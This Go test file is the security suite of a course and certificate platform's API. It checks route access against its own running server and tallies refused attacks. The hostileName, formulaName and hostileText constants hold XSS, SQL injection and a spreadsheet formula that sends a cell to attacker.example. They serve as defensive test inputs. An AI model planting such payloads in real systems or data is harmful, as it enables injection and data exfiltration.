package main

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"regexp"
	"slices"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/getkin/kin-openapi/openapi3"

	"github.com/cybercampus/cybercampus/internal/postgres/pgtest"
	"github.com/cybercampus/cybercampus/openapi"
)

// access is who may call a route.
type access int

const (
	accPublic   access = iota // anyone; a token is ignored
	accOptional               // anyone; a token, when sent, must be valid
	accUser                   // any signed-in user
	accStaff                  // trainer or admin
	accAnalyst                // analyst or admin
	accAdmin                  // admin only
)

// secRoute is one route of the program as the security suite attacks it.
type secRoute struct {
	method, pattern string
	access          access
	// sample is the path with real object ids ({cohort}, {cert}, ...) owned
	// by the first user of each kind; see world.fill.
	sample string
	// body marks routes that read a JSON request body.
	body bool
}

func (r secRoute) key() string { return r.method + " " + r.pattern }

// securityRoutes is every route the program registers. TestSecurityRouteTable
// fails when a registered route is missing here (or a route here no longer
// exists), so that no new route escapes the suite.
var securityRoutes = []secRoute{
	{"GET", "/healthz", accPublic, "/healthz", false},
	{"GET", "/readyz", accPublic, "/readyz", false},
	{"GET", "/metrics", accPublic, "/metrics", false},
	{"GET", "/openapi.yaml", accPublic, "/openapi.yaml", false},
	{"GET", "/dashboard", accPublic, "/dashboard", false},
	{"GET", "/dashboard/:file", accPublic, "/dashboard/app.js", false},
	{"GET", "/app", accPublic, "/app", false},
	{"GET", "/app/:file", accPublic, "/app/app.js", false},
	{"GET", "/verify-email", accPublic, "/verify-email", false},
	{"GET", "/reset-password", accPublic, "/reset-password", false},

	{"POST", "/v1/auth/register", accPublic, "/v1/auth/register", true},
	{"POST", "/v1/auth/login", accPublic, "/v1/auth/login", true},
	{"POST", "/v1/auth/refresh", accPublic, "/v1/auth/refresh", true},
	{"POST", "/v1/auth/logout", accUser, "/v1/auth/logout", true},
	{"POST", "/v1/auth/logout-all", accUser, "/v1/auth/logout-all", false},
	{"POST", "/v1/auth/password/forgot", accPublic, "/v1/auth/password/forgot", true},
	{"POST", "/v1/auth/password/reset", accPublic, "/v1/auth/password/reset", true},
	{"POST", "/v1/auth/verify-email", accPublic, "/v1/auth/verify-email", true},
	{"GET", "/v1/me", accUser, "/v1/me", false},
	{"PATCH", "/v1/me", accUser, "/v1/me", true},
	{"DELETE", "/v1/me", accUser, "/v1/me", true},
	{"GET", "/v1/me/export", accUser, "/v1/me/export", false},
	{"PUT", "/v1/me/password", accUser, "/v1/me/password", true},
	{"POST", "/v1/me/verify-email", accUser, "/v1/me/verify-email", false},
	{"GET", "/v1/users/:id", accAdmin, "/v1/users/{userB}", false},
	{"PUT", "/v1/users/:id/roles", accAdmin, "/v1/users/{userB}/roles", true},

	{"GET", "/v1/courses", accPublic, "/v1/courses", false},
	{"POST", "/v1/courses", accAdmin, "/v1/courses", true},
	{"GET", "/v1/courses/:slug", accOptional, "/v1/courses/{slug}", false},
	{"PUT", "/v1/courses/:slug", accAdmin, "/v1/courses/{slug}", true},
	{"POST", "/v1/courses/:slug/publish", accAdmin, "/v1/courses/{slug}/publish", false},
	{"POST", "/v1/courses/:slug/archive", accAdmin, "/v1/courses/{slug}/archive", false},
	{"GET", "/v1/courses/:slug/lessons/:lesson_id", accUser, "/v1/courses/{slug}/lessons/{lesson}", false},
	{"GET", "/v1/courses/:slug/package", accUser, "/v1/courses/{slug}/package", false},
	{"GET", "/v1/quizzes/:id", accUser, "/v1/quizzes/{quiz}", false},
	{"GET", "/v1/courses/:slug/assessments/:kind", accUser, "/v1/courses/{slug}/assessments/pre", false},
	{"POST", "/v1/courses/:slug/assessments/:kind/attempts", accUser, "/v1/courses/{slug}/assessments/pre/attempts", true},
	{"GET", "/v1/courses/:slug/item-statistics", accAdmin, "/v1/courses/{slug}/item-statistics", false},

	{"POST", "/v1/courses/:slug/enrollments", accUser, "/v1/courses/{slug}/enrollments", false},
	{"GET", "/v1/me/enrollments", accUser, "/v1/me/enrollments", false},
	{"GET", "/v1/me/courses/:slug/progress", accUser, "/v1/me/courses/{slug}/progress", false},
	{"POST", "/v1/progress", accUser, "/v1/progress", true},
	{"POST", "/v1/quizzes/:id/attempts", accUser, "/v1/quizzes/{quiz}/attempts", true},
	{"GET", "/v1/quizzes/:id/attempts", accUser, "/v1/quizzes/{quiz}/attempts", false},
	{"GET", "/v1/me/notifications", accUser, "/v1/me/notifications", false},
	{"POST", "/v1/me/notifications/:id/read", accUser, "/v1/me/notifications/{notification}/read", false},
	{"GET", "/v1/me/surveys", accUser, "/v1/me/surveys", false},
	{"POST", "/v1/surveys/:id/responses", accUser, "/v1/surveys/{userB}/responses", true},

	{"POST", "/v1/cohorts", accStaff, "/v1/cohorts", true},
	{"GET", "/v1/cohorts", accStaff, "/v1/cohorts", false},
	{"GET", "/v1/cohorts/:id", accStaff, "/v1/cohorts/{cohort}", false},
	{"PATCH", "/v1/cohorts/:id", accStaff, "/v1/cohorts/{cohort}", true},
	{"POST", "/v1/cohorts/:id/archive", accStaff, "/v1/cohorts/{cohort}/archive", false},
	{"POST", "/v1/cohorts/:id/members", accStaff, "/v1/cohorts/{cohort}/members", true},
	{"DELETE", "/v1/cohorts/:id/members/:user_id", accStaff, "/v1/cohorts/{cohort}/members/{userB}", false},
	{"POST", "/v1/cohorts/:id/join-code", accStaff, "/v1/cohorts/{cohort}/join-code", false},
	{"GET", "/v1/cohorts/:id/progress", accStaff, "/v1/cohorts/{cohort}/progress", false},
	{"POST", "/v1/cohorts/join", accUser, "/v1/cohorts/join", true},
	{"GET", "/v1/me/invitations", accUser, "/v1/me/invitations", false},
	{"POST", "/v1/invitations/:id/accept", accUser, "/v1/invitations/{invitation}/accept", false},
	{"POST", "/v1/invitations/:id/decline", accUser, "/v1/invitations/{invitation}/decline", false},
	{"POST", "/v1/cohorts/:id/learners", accStaff, "/v1/cohorts/{cohort}/learners", true},
	{"GET", "/v1/cohorts/:id/sign-in-cards", accStaff, "/v1/cohorts/{cohort}/sign-in-cards", false},
	{"POST", "/v1/cohorts/:id/learners/:user_id/password", accStaff, "/v1/cohorts/{cohort}/learners/{userB}/password", false},
	{"POST", "/v1/cohorts/:id/learners/:user_id/guardian-code", accStaff, "/v1/cohorts/{cohort}/learners/{userB}/guardian-code", false},
	{"POST", "/v1/me/children", accUser, "/v1/me/children", true},
	{"GET", "/v1/me/children", accUser, "/v1/me/children", false},
	{"DELETE", "/v1/me/children/:user_id", accUser, "/v1/me/children/{userB}", false},

	{"GET", "/.well-known/jwks.json", accPublic, "/.well-known/jwks.json", false},
	{"GET", "/v1/issuer", accPublic, "/v1/issuer", false},
	{"GET", "/v1/me/certificates", accUser, "/v1/me/certificates", false},
	{"POST", "/v1/certificates/verify", accPublic, "/v1/certificates/verify", true},
	{"GET", "/v1/certificates/keys/:thumbprint", accPublic, "/v1/certificates/keys/{thumbprint}", false},
	{"GET", "/v1/certificates/status/:list", accPublic, "/v1/certificates/status/1", false},
	{"GET", "/v1/certificates/:id", accPublic, "/v1/certificates/{cert}", false},
	{"GET", "/v1/certificates/:id/pdf", accUser, "/v1/certificates/{cert}/pdf", false},
	{"POST", "/v1/certificates/:id/revoke", accAdmin, "/v1/certificates/{cert}/revoke", true},

	{"GET", "/v1/reports/participation", accAnalyst, "/v1/reports/participation", false},
	{"GET", "/v1/reports/impact", accAnalyst, "/v1/reports/impact", false},
	{"GET", "/v1/reports/participation.svg", accAnalyst, "/v1/reports/participation.svg", false},
	{"GET", "/v1/reports/impact.svg", accAnalyst, "/v1/reports/impact.svg", false},
	{"POST", "/v1/reports/exports", accAnalyst, "/v1/reports/exports", true},
	{"GET", "/v1/reports/exports/:id", accAnalyst, "/v1/reports/exports/{export}", false},
}

// registeredRoutes returns "METHOD pattern" of every route the program mounts.
func registeredRoutes(t *testing.T) []string {
	t.Helper()
	e, err := openEnv(context.Background(), testEnv(10, nil), io.Discard, true)
	if err != nil {
		t.Fatal(err)
	}
	defer e.Close()
	var out []string
	for _, r := range e.newHTTP(e.newHandlers()).GetRoutes(true) {
		if r.Method == "HEAD" || r.Method == "USE" || r.Method == "OPTIONS" || strings.HasSuffix(r.Path, "*") {
			continue
		}
		out = append(out, r.Method+" "+r.Path)
	}
	return out
}

// TestSecurityRouteTable keeps the attack table in step with the program and
// with the OpenAPI document: every registered route is attacked, and a route
// is public in the table exactly when the document says it needs no token.
func TestSecurityRouteTable(t *testing.T) {
	table := map[string]secRoute{}
	for _, r := range securityRoutes {
		table[r.key()] = r
	}
	registered := registeredRoutes(t)
	for _, k := range registered {
		if _, ok := table[k]; !ok {
			t.Errorf("route %s is not in securityRoutes: add it, with who may call it, so the security suite attacks it", k)
		}
	}
	for k := range table {
		if !slices.Contains(registered, k) {
			t.Errorf("securityRoutes lists %s, which the program no longer registers", k)
		}
	}
	doc, err := openapi3.NewLoader().LoadFromData(openapi.Document)
	if err != nil {
		t.Fatal(err)
	}
	for path, item := range doc.Paths.Map() {
		for method, op := range item.Operations() {
			pattern := regexp.MustCompile(`\{([^}]+)\}`).ReplaceAllString(path, ":$1")
			r, ok := findRoute(method, pattern)
			if !ok {
				continue // the route check above reports mismatches
			}
			security := doc.Security
			if op.Security != nil {
				security = *op.Security
			}
			public := len(security) == 0
			for _, req := range security {
				if len(req) == 0 { // {} means "no token needed"
					public = true
				}
			}
			if public != (r.access == accPublic || r.access == accOptional) {
				t.Errorf("%s %s: openapi.yaml says public=%v, securityRoutes says access %d", method, path, public, r.access)
			}
		}
	}
}

// findRoute matches a route by method and pattern, whatever its parameters are named.
func findRoute(method, pattern string) (secRoute, bool) {
	norm := func(p string) string { return fiberParam.ReplaceAllString(p, "{}") }
	for _, r := range securityRoutes {
		if r.method == method && norm(r.pattern) == norm(pattern) {
			return r, true
		}
	}
	return secRoute{}, false
}

// attackRow is one line of the printed attack table.
type attackRow struct {
	attack           string
	routes           map[string]bool
	tried, refused   int
	refusedMeans     string
	unexpectedStatus []string
}

// tally counts attacks by kind for the table printed at the end of the suite.
type tally struct {
	mu   sync.Mutex
	rows []*attackRow
}

func (ta *tally) row(attack, means string) *attackRow {
	ta.mu.Lock()
	defer ta.mu.Unlock()
	for _, r := range ta.rows {
		if r.attack == attack {
			return r
		}
	}
	r := &attackRow{attack: attack, routes: map[string]bool{}, refusedMeans: means}
	ta.rows = append(ta.rows, r)
	return r
}

func (ta *tally) add(attack, means, route string, refused bool, got string) {
	r := ta.row(attack, means)
	ta.mu.Lock()
	defer ta.mu.Unlock()
	r.routes[route] = true
	r.tried++
	if refused {
		r.refused++
	} else {
		r.unexpectedStatus = append(r.unexpectedStatus, got)
	}
}

// print writes the table as Markdown.
func (ta *tally) print(w io.Writer) {
	ta.mu.Lock()
	defer ta.mu.Unlock()
	fmt.Fprintln(w, "\n| attack | routes tried | requests | refused | refused means |")
	fmt.Fprintln(w, "|---|---:|---:|---:|---|")
	total, refused := 0, 0
	for _, r := range ta.rows {
		fmt.Fprintf(w, "| %s | %d | %d | %d | %s |\n", r.attack, len(r.routes), r.tried, r.refused, r.refusedMeans)
		total += r.tried
		refused += r.refused
	}
	fmt.Fprintf(w, "| **all** | %d | %d | %d | |\n\n", len(securityRoutes), total, refused)
	for _, r := range ta.rows {
		for _, got := range r.unexpectedStatus {
			fmt.Fprintf(w, "NOT REFUSED: %s: %.120s\n", r.attack, got)
		}
	}
}

// attempt is one request of the suite.
type attempt struct {
	method, path, token string
	body                any // nil, string or []byte (sent as is), or a value to marshal
	ctype               string
	header              map[string]string
}

// world is the running program with users and objects to attack.
type world struct {
	s      *server
	tally  *tally
	mu     sync.Mutex
	served int // requests sent
	failed int // of them answered with a 5xx, which none may be

	admin, analyst, analystB, trainerA, trainerB, multi user
	learnerA, learnerB, learnerC                        user
	learnerD                                            user // sends the malformed requests

	slug, lesson, quiz, question, right, wrong string // learner A's course
	cohort, export, notification, thumbprint   string
	invitation                                 string // learner B's pending invitation to trainer A's cohort
	cert, good, other, revoked, revokedID, kid string // learner A's certificates
	enrollment                                 string
}

// user is a signed-in account.
type user struct{ id, email, password, name, token, refresh string }

// send issues a and fails the test on a 5xx, which no request may get.
func (w *world) send(t *testing.T, a attempt) (int, http.Header, []byte) {
	t.Helper()
	var rd io.Reader
	ctype := a.ctype
	switch b := a.body.(type) {
	case nil:
	case string:
		rd = strings.NewReader(b)
	case []byte:
		rd = bytes.NewReader(b)
	default:
		raw, err := json.Marshal(b)
		if err != nil {
			t.Fatal(err)
		}
		rd = bytes.NewReader(raw)
	}
	if rd != nil && ctype == "" {
		ctype = "application/json"
	}
	req, err := http.NewRequest(a.method, w.s.base+a.path, rd)
	if err != nil {
		t.Fatal(err)
	}
	if ctype != "" {
		req.Header.Set("Content-Type", ctype)
	}
	if a.token != "" {
		req.Header.Set("Authorization", "Bearer "+a.token)
	}
	for k, v := range a.header {
		req.Header.Set(k, v)
	}
	code, hdr, body := w.s.do(t, req)
	w.mu.Lock()
	w.served++
	if code >= 500 {
		w.failed++
	}
	w.mu.Unlock()
	if code >= 500 {
		t.Errorf("%s %.200s answered %d: %.300s", a.method, a.path, code, body)
	}
	return code, hdr, body
}

// refuse sends an attack that must be refused with one of want (any 4xx when
// want is empty) and records it in the table under attack.
func (w *world) refuse(t *testing.T, attack, route string, a attempt, want ...int) (int, []byte) {
	t.Helper()
	code, hdr, body := w.send(t, a)
	ok := code >= 400 && code < 500
	if len(want) > 0 {
		ok = slices.Contains(want, code)
	}
	if ok && code != 404 && code != 405 && !strings.HasPrefix(hdr.Get("Content-Type"), "application/problem+json") {
		t.Errorf("%s %.200s: %d is not a problem document (%q)", a.method, a.path, code, hdr.Get("Content-Type"))
	}
	if !ok {
		t.Errorf("%s: %s %.200s answered %d, want %v: %.300s", attack, a.method, a.path, code, want, body)
	}
	w.tally.add(attack, "4xx", route, ok, fmt.Sprint(code))
	return code, body
}

// fill replaces the placeholders of a sample path with the world's objects.
func (w *world) fill(sample string) string {
	return strings.NewReplacer("{userB}", w.learnerB.id, "{slug}", w.slug, "{lesson}", w.lesson, "{quiz}", w.quiz,
		"{notification}", w.notification, "{cohort}", w.cohort, "{thumbprint}", w.thumbprint, "{cert}", w.cert,
		"{export}", w.export, "{invitation}", w.invitation).Replace(sample)
}

// caller returns a token allowed through a route's role check; routes for
// any user get learner D, whose data no other check reads.
func (w *world) caller(r secRoute) string {
	switch r.access {
	case accAdmin:
		return w.admin.token
	case accStaff:
		return w.trainerA.token
	case accAnalyst:
		return w.analyst.token
	case accUser:
		return w.learnerD.token
	}
	return ""
}

// TestSecurity attacks the running program; it prints the attack table at the end.
func TestSecurity(t *testing.T) {
	w := newWorld(t)
	t.Cleanup(func() {
		w.tally.print(os.Stdout)
		fmt.Printf("security suite: %d requests, %d answered with a 5xx\n", w.served, w.failed)
	})
	t.Run("certificate forgery", w.certificateAttacks)
	t.Run("access token forgery", w.tokenForgery)
	t.Run("refresh token reuse", w.refreshReuse)
	t.Run("no token", w.noToken)
	t.Run("function level authorization", w.functionLevel)
	t.Run("object level authorization", w.objectLevel)
	t.Run("mass assignment", w.massAssignment)
	t.Run("hostile bodies", w.hostileBodies)
	t.Run("oversized bodies", w.oversizedBodies)
	t.Run("hostile arrays", w.hostileArrays)
	t.Run("hostile path parameters", w.hostilePaths)
	t.Run("hostile text is stored literally and escaped", w.hostileText)
	t.Run("login brute force", w.bruteForce)
}

// newWorld signs in every kind of user and makes the objects to attack: a
// published course that learner A completes (with quiz attempts, a
// notification and certificates), trainer A's cohort and analyst A's export.
func newWorld(t *testing.T) *world {
	t.Helper()
	s := sharedServer(t)
	w := &world{s: s, tally: &tally{}}
	w.admin = w.staff(t, "Security Admin", "admin")
	w.analyst = w.staff(t, "Analyst A", "analyst")
	w.analystB = w.staff(t, "Analyst B", "analyst")
	w.trainerA = w.staff(t, "Trainer A", "trainer")
	w.trainerB = w.staff(t, "Trainer B", "trainer")
	w.multi = w.staff(t, "Trainer Analyst", "trainer", "analyst")
	w.learnerA = w.learner(t, hostileName)
	w.learnerB = w.learner(t, "Learner B")
	w.learnerC = w.learner(t, formulaName)
	w.learnerD = w.learner(t, "Learner D")

	w.slug = w.course(t, true)
	w.outline(t)
	w.enrol(t, w.learnerA, w.slug)
	w.completeLesson(t, w.learnerA, w.lesson)
	w.answer(t, w.learnerA, w.wrong, 201)
	w.answer(t, w.learnerA, w.right, 201)
	other, revoked := w.course(t, false), w.course(t, false)
	for _, slug := range []string{other, revoked} {
		w.enrol(t, w.learnerA, slug)
		w.completeLesson(t, w.learnerA, w.lessonOf(t, slug))
	}
	certs := w.waitCertificates(t, w.learnerA, 3)
	for _, c := range certs {
		switch c.Course.Slug {
		case w.slug:
			w.cert, w.good = c.ID, c.Token
		case other:
			w.other = c.Token
		case revoked:
			w.revokedID, w.revoked = c.ID, c.Token
		}
	}
	if code, _, b := w.send(t, attempt{method: "POST", path: "/v1/certificates/" + w.revokedID + "/revoke", token: w.admin.token,
		body: map[string]string{"reason": "issued in error"}}); code != 200 {
		t.Fatalf("revoke: %d %s", code, b)
	}
	w.kid = jwsHeader(t, w.good)["kid"].(string)
	w.thumbprint = w.kid[strings.LastIndex(w.kid, "/")+1:]

	_, _, b := w.send(t, attempt{method: "GET", path: "/v1/me/notifications", token: w.learnerA.token})
	if items := itemsOf(t, b); len(items) > 0 {
		w.notification = items[0]["id"].(string)
	} else {
		t.Fatalf("learner A has no notification after certification: %s", b)
	}
	_, _, b = w.send(t, attempt{method: "GET", path: "/v1/me/enrollments", token: w.learnerA.token})
	w.enrollment = itemsOf(t, b)[0]["id"].(string)

	code, _, b := w.send(t, attempt{method: "POST", path: "/v1/cohorts", token: w.trainerA.token, body: map[string]string{
		"name": hostileText, "course": w.slug, "country": "KE", "starts_on": "2026-01-05", "ends_on": "2026-12-18"}})
	if code != 201 {
		t.Fatalf("cohort: %d %s", code, b)
	}
	w.cohort = decode(t, b)["cohort"].(map[string]any)["id"].(string)
	code, _, b = w.send(t, attempt{method: "POST", path: "/v1/cohorts/" + w.cohort + "/members", token: w.trainerA.token,
		body: map[string]any{"emails": []string{w.learnerA.email, w.learnerC.email, w.learnerB.email}}})
	if code != 200 {
		t.Fatalf("members: %d %s", code, b)
	}
	for _, u := range []user{w.learnerA, w.learnerC} {
		if code, _, b := w.send(t, attempt{method: "POST", path: "/v1/invitations/" + w.invitationOf(t, u) + "/accept", token: u.token}); code != 200 {
			t.Fatalf("accept: %d %s", code, b)
		}
	}
	w.invitation = w.invitationOf(t, w.learnerB)
	code, _, b = w.send(t, attempt{method: "POST", path: "/v1/reports/exports", token: w.analyst.token,
		body: map[string]string{"group_by": "gender"}})
	if code != 202 {
		t.Fatalf("export: %d %s", code, b)
	}
	w.export = decode(t, b)["id"].(string)
	return w
}

// invitationOf returns u's pending invitation to trainer A's cohort.
func (w *world) invitationOf(t *testing.T, u user) string {
	t.Helper()
	_, _, b := w.send(t, attempt{method: "GET", path: "/v1/me/invitations", token: u.token})
	for _, it := range itemsOf(t, b) {
		if it["cohort"].(map[string]any)["id"] == w.cohort {
			return it["id"].(string)
		}
	}
	t.Fatalf("%s has no invitation to the cohort: %s", u.email, b)
	return ""
}

// hostileName is learner A's name: markup and SQL that must come back as typed.
const hostileName = `<script>alert("x")</script> O'Brien'); DROP TABLE users; --`

// formulaName is learner C's name: a spreadsheet formula.
const formulaName = `=HYPERLINK("https://attacker.example/?"&A1,"Open")`

// hostileText goes into every free-text field.
const hostileText = `Robert'); DROP TABLE cohorts; -- <img src=x alt=x onerror=alert(1)> & "quotes" \ 1=1`

// staff creates a user with roles through the operator command and signs in.
func (w *world) staff(t *testing.T, name string, roles ...string) user {
	t.Helper()
	u := user{email: "sec-" + pgtest.RandomSuffix() + pgtest.RandomSuffix() + "@example.org", password: "a long staff password", name: name}
	args := []string{"users", "create", "--email", u.email, "--password", u.password, "--name", name}
	for _, r := range roles {
		args = append(args, "--role", r)
	}
	if err := run(t.Context(), args, testEnv(10, nil), io.Discard, io.Discard); err != nil {
		t.Fatalf("users create: %v", err)
	}
	return w.signIn(t, u)
}

// learner registers through the API and signs in.
func (w *world) learner(t *testing.T, name string) user {
	t.Helper()
	u := user{email: newEmail(), password: "correct horse battery", name: name}
	body := registration(u.email)
	body["name"] = name
	if code, _, b := w.send(t, attempt{method: "POST", path: "/v1/auth/register", body: body}); code != 201 {
		t.Fatalf("register %q: %d %s", name, code, b)
	}
	// The learner followed the emailed link (that flow is tested in
	// accounts_lifecycle_test.go): invitations need a verified address.
	if _, err := testDB.Exec(`UPDATE users SET email_verified_at = now() WHERE lower(email) = lower($1)`, u.email); err != nil {
		t.Fatal(err)
	}
	return w.signIn(t, u)
}

func (w *world) signIn(t *testing.T, u user) user {
	t.Helper()
	u.token, u.refresh = login(t, w.s, u.email, u.password)
	_, _, b := w.send(t, attempt{method: "GET", path: "/v1/me", token: u.token})
	u.id = decode(t, b)["id"].(string)
	return u
}

// course creates and publishes a course; withQuiz adds a one-question quiz.
// Its title carries hostile text, which every output must escape.
func (w *world) course(t *testing.T, withQuiz bool) string {
	t.Helper()
	slug := "sec-" + pgtest.RandomSuffix()
	module := map[string]any{"key": "basics", "title": "Basics", "lessons": []any{map[string]any{
		"key": "intro", "title": "Introduction", "kind": "text", "duration_minutes": 5, "content": "# Hello\n\n" + hostileText}}}
	if withQuiz {
		module["quiz"] = map[string]any{"key": "check", "title": "Check", "pass_score": 100, "max_attempts": 3,
			"questions": []any{map[string]any{"key": "q1", "text": "Pick right", "kind": "single", "options": []any{
				map[string]any{"key": "right", "text": "Right", "correct": true}, map[string]any{"key": "wrong", "text": "Wrong"}}}}}
	}
	doc := map[string]any{"slug": slug, "title": "Security " + hostileText, "summary": "Attacked by the security suite.",
		"level": "beginner", "audiences": []string{"youth"}, "language": "en", "modules": []any{module}}
	if code, _, b := w.send(t, attempt{method: "POST", path: "/v1/courses", token: w.admin.token, body: doc}); code != 201 {
		t.Fatalf("create course: %d %s", code, b)
	}
	if code, _, b := w.send(t, attempt{method: "POST", path: "/v1/courses/" + slug + "/publish", token: w.admin.token}); code != 200 {
		t.Fatalf("publish: %d %s", code, b)
	}
	return slug
}

// outline reads the lesson and quiz ids of the main course.
func (w *world) outline(t *testing.T) {
	t.Helper()
	w.lesson = w.lessonOf(t, w.slug)
	_, _, b := w.send(t, attempt{method: "GET", path: "/v1/courses/" + w.slug})
	var o struct {
		Modules []struct {
			Quiz *struct{ ID string } `json:"quiz"`
		} `json:"modules"`
	}
	json.Unmarshal(b, &o)
	if len(o.Modules) == 0 || o.Modules[0].Quiz == nil {
		t.Fatalf("outline without quiz: %s", b)
	}
	w.quiz = o.Modules[0].Quiz.ID
	_, _, b = w.send(t, attempt{method: "GET", path: "/v1/quizzes/" + w.quiz, token: w.admin.token})
	var q struct {
		Questions []struct {
			ID      string
			Options []struct{ ID, Key string }
		}
	}
	json.Unmarshal(b, &q)
	if len(q.Questions) != 1 {
		t.Fatalf("quiz: %s", b)
	}
	w.question = q.Questions[0].ID
	for _, o := range q.Questions[0].Options {
		if o.Key == "right" {
			w.right = o.ID
		} else {
			w.wrong = o.ID
		}
	}
}

func (w *world) lessonOf(t *testing.T, slug string) string {
	t.Helper()
	_, _, b := w.send(t, attempt{method: "GET", path: "/v1/courses/" + slug})
	var o struct {
		Modules []struct {
			Lessons []struct{ ID string }
		}
	}
	json.Unmarshal(b, &o)
	if len(o.Modules) == 0 || len(o.Modules[0].Lessons) == 0 {
		t.Fatalf("outline of %s: %s", slug, b)
	}
	return o.Modules[0].Lessons[0].ID
}

func (w *world) enrol(t *testing.T, u user, slug string) {
	t.Helper()
	if code, _, b := w.send(t, attempt{method: "POST", path: "/v1/courses/" + slug + "/enrollments", token: u.token}); code != 201 {
		t.Fatalf("enrol: %d %s", code, b)
	}
}

func (w *world) completeLesson(t *testing.T, u user, lesson string) {
	t.Helper()
	code, _, b := w.send(t, attempt{method: "POST", path: "/v1/progress", token: u.token, body: map[string]any{"events": []any{
		map[string]string{"id": newUUID(), "lesson_id": lesson, "type": "lesson_completed", "occurred_at": time.Now().UTC().Format(time.RFC3339)}}}})
	if code != 200 || decode(t, b)["accepted"].(float64) != 1 {
		t.Fatalf("progress: %d %s", code, b)
	}
}

func (w *world) answer(t *testing.T, u user, option string, want int) {
	t.Helper()
	code, _, b := w.send(t, attempt{method: "POST", path: "/v1/quizzes/" + w.quiz + "/attempts", token: u.token,
		body: map[string]any{"answers": map[string][]string{w.question: {option}}}})
	if code != want {
		t.Fatalf("attempt: %d %s", code, b)
	}
}

// certificate is an entry of GET /v1/me/certificates.
type certificate struct {
	ID     string
	Token  string
	Course struct{ Slug string }
}

// waitCertificates waits for the worker to issue n certificates to u.
func (w *world) waitCertificates(t *testing.T, u user, n int) []certificate {
	t.Helper()
	deadline := time.Now().Add(120 * time.Second) // room for one retry of the issuing job
	for {
		_, _, b := w.send(t, attempt{method: "GET", path: "/v1/me/certificates", token: u.token})
		var page struct{ Items []certificate }
		json.Unmarshal(b, &page)
		if len(page.Items) >= n {
			return page.Items
		}
		if time.Now().After(deadline) {
			var failures []string
			for _, line := range strings.Split(w.s.logs.String(), "\n") {
				if strings.Contains(line, "task failed") || strings.Contains(line, `"level":"ERROR"`) {
					failures = append(failures, line)
				}
			}
			t.Fatalf("%d of %d certificates issued within 120s: %s\nserver errors:\n%s", len(page.Items), n, b, strings.Join(failures, "\n"))
		}
		time.Sleep(200 * time.Millisecond)
	}
}

// itemsOf decodes the items of a page.
func itemsOf(t *testing.T, b []byte) []map[string]any {
	t.Helper()
	var page struct{ Items []map[string]any }
	if err := json.Unmarshal(b, &page); err != nil {
		t.Fatalf("page %q: %v", b, err)
	}
	return page.Items
}

// rawPost sends a request line and headers by hand and reads the answer:
// the server refuses an oversized body from its Content-Length alone.
func (w *world) rawPost(t *testing.T, method, path, token string, length int) int {
	t.Helper()
	conn, err := net.Dial("tcp", strings.TrimPrefix(w.s.base, "http://"))
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	auth := ""
	if token != "" {
		auth = "Authorization: Bearer " + token + "\r\n"
	}
	fmt.Fprintf(conn, "%s %s HTTP/1.1\r\nHost: x\r\n%sContent-Type: application/json\r\nContent-Length: %d\r\n\r\n{", method, path, auth, length)
	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		t.Fatalf("%s %s: %v", method, path, err)
	}
	resp.Body.Close()
	w.mu.Lock()
	w.served++
	if resp.StatusCode >= 500 {
		w.failed++
	}
	w.mu.Unlock()
	if resp.StatusCode >= 500 {
		t.Errorf("%s %s oversized: %d", method, path, resp.StatusCode)
	}
	return resp.StatusCode
}

// routesWhere lists the table's routes that match keep, sorted for stable output.
func routesWhere(keep func(secRoute) bool) []secRoute {
	var out []secRoute
	for _, r := range securityRoutes {
		if keep(r) {
			out = append(out, r)
		}
	}
	sort.SliceStable(out, func(i, j int) bool { return out[i].key() < out[j].key() })
	return out
}
